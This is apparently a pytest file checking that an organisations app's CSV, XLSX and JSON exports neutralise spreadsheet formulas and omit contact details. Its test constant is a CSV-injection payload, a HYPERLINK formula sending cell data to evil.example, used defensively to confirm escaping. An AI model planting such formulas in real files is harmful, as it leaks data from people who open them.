"""Exports: the public record in CSV, XLSX and JSON, safe to open in a spreadsheet, never with contacts."""

from __future__ import annotations

import csv
import io
import json

from openpyxl import load_workbook

from innotwin.organisations.domain.add_person import add_person
from innotwin.organisations.interfaces.exporters import (
    csv_chunks,
    export_rows,
    headers,
    json_chunks,
    template_csv,
    template_xlsx,
    xlsx_bytes,
)
from innotwin.organisations.models import Organisation
from innotwin.organisations.queries import live_profiles
from tests.organisations.factories import make_organisation

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _csv(language: str = "en") -> list[list[str]]:
    text = "".join(csv_chunks(export_rows(Organisation.objects.all()), columns=headers(language)))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_export_neutralises_every_formula_like_value(world) -> None:
    make_organisation(name_en=FORMULA, description_en="+44 114 496 0000", keywords_en="@risk; -minus")
    rows = {row[0]: row for row in _csv()[1:]}
    risky = next(row for row in rows.values() if "HYPERLINK" in row[1])
    assert risky[1] == "'" + FORMULA
    assert risky[9] == "'+44 114 496 0000"
    assert risky[13] == "'@risk; -minus"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row)


def test_csv_export_headers_in_korean(world) -> None:
    header = _csv("ko")[0]
    assert header[:5] == ["식별자", "기관명(영문)", "기관명(국문)", "기관 유형", "지역"]


def test_xlsx_export_stores_formulas_as_text(world) -> None:
    make_organisation(name_en=FORMULA)
    data = xlsx_bytes(export_rows(Organisation.objects.all()), columns=headers("en"))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert FORMULA in [cell.value for cell in cells]


def test_json_export_has_only_published_profiles_and_no_contacts(world) -> None:
    add_person(
        actor=None, organisation=world.organisation, full_name="Aoife Byrne", email="aoife@harbour.example"
    )
    text = "".join(json_chunks(Organisation.objects.all(), live_profiles=live_profiles()))
    data = json.loads(text)
    harbour = next(o for o in data["organisations"] if o["slug"] == "harbour-robotics-ltd")
    assert [profile["id"] for profile in harbour["profiles"]] == [world.profiles["published"].pk]
    assert harbour["industries"] == "SIC:62012"
    assert "aoife" not in text.lower()


def test_templates_have_the_import_headers(db) -> None:
    assert (
        template_csv("ko")
        .removeprefix("\ufeff")
        .splitlines()[0]
        .startswith("기관명(영문),기관명(국문),기관 유형,지역")
    )
    workbook = load_workbook(io.BytesIO(template_xlsx("en")))
    assert [sheet.title for sheet in workbook.worksheets] == ["organisations", "guide"]
    assert workbook.worksheets[0]["A1"].value == "Name (English)"
    assert workbook.worksheets[1]["C4"].value.startswith("sme, large_company")
